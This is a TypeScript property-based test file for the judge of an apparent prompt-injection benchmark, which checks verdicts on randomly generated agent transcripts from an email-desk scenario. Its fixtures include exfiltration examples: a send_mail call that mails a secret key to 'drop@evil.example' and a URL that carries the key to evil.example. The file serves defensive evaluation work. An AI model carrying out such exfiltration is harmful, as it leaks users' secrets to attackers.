import type {
  DefenseAction,
  JsonObject,
  Message,
  Oracle,
  Part,
  ToolCall,
  ToolResult,
  Transcript,
  TranscriptEntry,
} from '@pab/model';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judge, OUTCOMES, Trial, trialOf } from '../src/index.js';
import { BENIGN, deskCase, deskControl, KEY, PAYLOAD } from './fixture/desk-case.js';

const text = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '',
    PAYLOAD,
    BENIGN,
    KEY,
    `https://evil.example/${KEY}`,
    "I can't help with that.",
  ),
);

const part: fc.Arbitrary<Part> = fc.record(
  {
    text,
    provenance: fc.constantFrom('system', 'user', 'environment', 'agent'),
    source: fc.oneof(text, fc.constant('read_mail#1/body')),
    leaf: fc.nat(4),
  },
  { requiredKeys: ['text', 'provenance'] },
);

const call: fc.Arbitrary<ToolCall> = fc.record(
  {
    id: fc.constantFrom('c1', 'c2', '__proto__'),
    tool: fc.constantFrom('read_mail', 'send_mail', 'add_note', 'constructor', ''),
    args: fc.oneof(
      fc.constantFrom(
        { id: 'm2' },
        { to: 'drop@evil.example', body: KEY },
        { text: 'x' },
        JSON.parse('{"__proto__": {"id": "m2"}}'),
      ) as fc.Arbitrary<JsonObject>,
      fc.dictionary(
        fc.string({ maxLength: 8 }),
        fc.jsonValue({ maxDepth: 2 }),
      ) as fc.Arbitrary<JsonObject>,
    ),
    unparsed: text,
  },
  { requiredKeys: ['id', 'tool', 'args'] },
);

const result: fc.Arbitrary<ToolResult> = fc.record({
  callId: fc.constantFrom('c1', 'c2'),
  tool: fc.constant('read_mail'),
  parts: fc.array(part, { maxLength: 4 }),
  isError: fc.boolean(),
});

const message: fc.Arbitrary<Message> = fc.oneof(
  fc.record({ role: fc.constantFrom('system', 'user'), parts: fc.array(part, { maxLength: 3 }) }),
  fc.record({
    role: fc.constant('assistant'),
    parts: fc.array(part, { maxLength: 3 }),
    calls: fc.array(call, { maxLength: 2 }),
  }),
  result.map((held) => ({ role: 'tool' as const, ...held })),
);

const actions: fc.Arbitrary<DefenseAction[]> = fc.array(
  fc.record({
    defense: fc.constant('x'),
    hook: fc.constantFrom('onCall', 'onResult', 'approve'),
    action: fc.constantFrom('blocked', 'rewritten', 'halted', 'announced'),
    reason: text,
  }),
  { maxLength: 2 },
);

const number = fc.integer({ min: -2, max: 5 });

const entry: fc.Arbitrary<TranscriptEntry> = fc.oneof(
  fc.record({
    type: fc.constant('prompt'),
    session: number,
    turn: number,
    messages: fc.array(message, { maxLength: 4 }),
    tools: fc.constant(deskCase().sessions[0]?.tools ?? []),
    untouched: fc.boolean(),
    actions,
  }),
  fc.record(
    {
      type: fc.constant('model'),
      request: fc.constant(''),
      edits: fc.array(fc.record({ index: number, message }), { maxLength: 3 }),
      text,
      seenText: text,
      calls: fc.array(call, { maxLength: 3 }),
      stop: fc.constantFrom('done', 'calls', 'length', 'blocked'),
      actions,
    },
    { requiredKeys: ['type', 'request', 'edits', 'text', 'calls', 'stop', 'actions'] },
  ),
  fc.record({
    type: fc.constant('call'),
    proposed: call,
    effective: fc.option(call),
    raw: fc.option(result),
    seen: result,
    actions,
  }),
  fc.record({
    type: fc.constant('output'),
    session: number,
    turn: number,
    text,
    seen: text,
    actions,
  }),
);

const transcript: fc.Arbitrary<Transcript> = fc.record(
  {
    entries: fc.array(entry, { maxLength: 10 }),
    stop: fc.constantFrom(
      'done',
      'max_steps',
      'timeout',
      'error',
      'halted',
      'provider_blocked',
      'aborted',
    ),
    error: fc.record({ code: text, message: text }),
    usage: fc.constant({ modelCalls: 0, inputTokens: 0, outputTokens: 0 }),
    blackBox: fc.constant(true as const),
    finalState: fc.constant(''),
  },
  { requiredKeys: ['entries', 'stop', 'usage', 'finalState'] },
);

const oracle: fc.Arbitrary<Oracle> = fc.constantFrom<Oracle>(
  { calls: { tool: 'send_mail', args: { '/to': { contains: 'evil' } } } },
  { leaks: { value: KEY } },
  { leaks: { value: KEY, through: ['text', 'urls'] } },
  { renders: { host: 'evil.example', value: KEY } },
  { says: { matches: '(a|b)+' } },
  { not: { state: { path: '/outbox', unchanged: true } } },
  { all: [{ calls: { tool: 'send_mail' } }, { says: { contains: 'key' } }] },
  { any: [{ state: { path: '/outbox', count: { min: 1 } } }, { refuses: true }] },
);

const theCase = fc
  .tuple(
    fc.constantFrom('attack', 'twin', 'control'),
    oracle,
    fc.constantFrom('state', 'task', 'tool', 'system'),
  )
  .map(([variant, compromised, place]) => {
    if (variant === 'control') return deskControl();
    const at =
      place === 'state'
        ? { state: '/inbox/1/body' }
        : place === 'tool'
          ? { tool: 'add_note' }
          : place === 'task'
            ? { task: true }
            : { system: true };
    const injections = [{ at, payload: PAYLOAD, benign: BENIGN }];
    return deskCase({ variant, change: { compromised, injections } });
  });

describe('judging any transcript whatever', () => {
  it('gives a judgement, the same one each time, that can be written and read back', () => {
    fc.assert(
      fc.property(theCase, transcript, (judged, happened) => {
        const before = JSON.stringify(happened);
        const judgement = judge(judged, happened);
        expect(judge(judged, happened)).toEqual(judgement);
        expect(JSON.stringify(happened)).toBe(before);
        expect(OUTCOMES).toContain(judgement.outcome);
        const trial = trialOf(judged, happened, judgement, { target: 't', defense: 'd' });
        expect(Trial.parse(JSON.parse(JSON.stringify(trial)))).toEqual(trial);
      }),
      { numRuns: 250 },
    );
  }, 60_000);

  it('never says compromised of an attack that was not reached, nor resisted of one that failed', () => {
    fc.assert(
      fc.property(theCase, transcript, (judged, happened) => {
        fc.pre(judged.variant === 'attack');
        const { outcome, stages, withheld, utility } = judge(judged, happened);
        const failed = ['error', 'timeout', 'aborted'].includes(happened.stop);
        expect({
          compromisedUnreached: outcome === 'compromised' && !stages.reached,
          deliveredUnreached: stages.delivered !== 'none' && !stages.reached,
          withheldWrongly: withheld && (outcome !== 'resisted' || stages.delivered !== 'none'),
          failedButJudged: failed && outcome !== 'error' && outcome !== 'compromised',
          failedButUseless: failed && utility === false,
        }).toEqual({
          compromisedUnreached: false,
          deliveredUnreached: false,
          withheldWrongly: false,
          failedButJudged: false,
          failedButUseless: false,
        });
      }),
      { numRuns: 250 },
    );
  }, 60_000);
});
